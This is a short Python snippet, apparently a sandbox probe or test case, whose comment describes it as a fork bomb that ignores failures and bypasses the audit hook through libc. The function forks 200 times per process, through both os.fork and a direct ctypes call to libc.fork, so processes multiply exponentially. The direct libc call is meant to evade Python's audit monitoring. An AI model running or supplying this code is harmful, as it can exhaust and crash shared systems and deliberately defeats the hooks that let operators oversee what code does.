# A fork bomb that ignores every failure and bypasses the audit hook through libc.
import ctypes
import os


def f():
    libc = ctypes.CDLL(None, use_errno=True)
    results = []
    for _ in range(200):
        try:
            results.append(os.fork())
        except OSError:
            results.append(-2)
        results.append(libc.fork())
    return sorted(set(results))
